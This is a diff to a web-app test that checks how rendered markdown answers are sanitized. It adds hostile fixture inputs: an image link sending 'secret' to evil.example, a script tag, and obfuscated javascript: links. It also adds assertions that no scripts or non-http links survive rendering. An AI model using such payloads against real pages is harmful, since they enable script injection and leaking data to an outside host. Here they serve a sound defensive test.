@@ -24,6 +24,7 @@ const answer = [
   '## Limits\n\nYou may send **ten** requests a second: use `GET /orders`, never `GET /secrets`.\n\n',
   '- one\n- two\n\n```sh\ncurl https://api.acme.example\n```\n\n| A | B |\n| --- | --- |\n| 1 | 2 |\n\n',
   '<img src=x onerror=alert(1)> [bad](javascript:alert(1)) [good](/guide/) [else](https://other.example/x)',
+  '\n\n![a](https://evil.example/?q=secret) <script>alert(2)</script> [c](java\tscript:x) [d](&#106;avascript:x)\n\n[ref]: https://evil.example\n',
 ]
 const sources = [
   { title: 'Guide', url: '/guide/', excerpt: 'Ten requests.' },
@@ -188,7 +189,11 @@ test('an answer is elements and text, with its operations checked and its source
     ['GET /orders', null],
     ['good', null],
     ['else', '_blank'],
+    ['a', '_blank'],
+    ['d', null],
+    ['evil.example', '_blank'],
   ])
+  expect(await log.locator('a:not([href^="http"]), script').count()).toBe(0)
   expect(await log.locator('li', { hasText: /^one$/ }).count()).toBe(1)
   expect(await log.getByRole('cell', { name: '2' }).count()).toBe(1)
   // A context with some permissions has no others, and the service is on this machine.
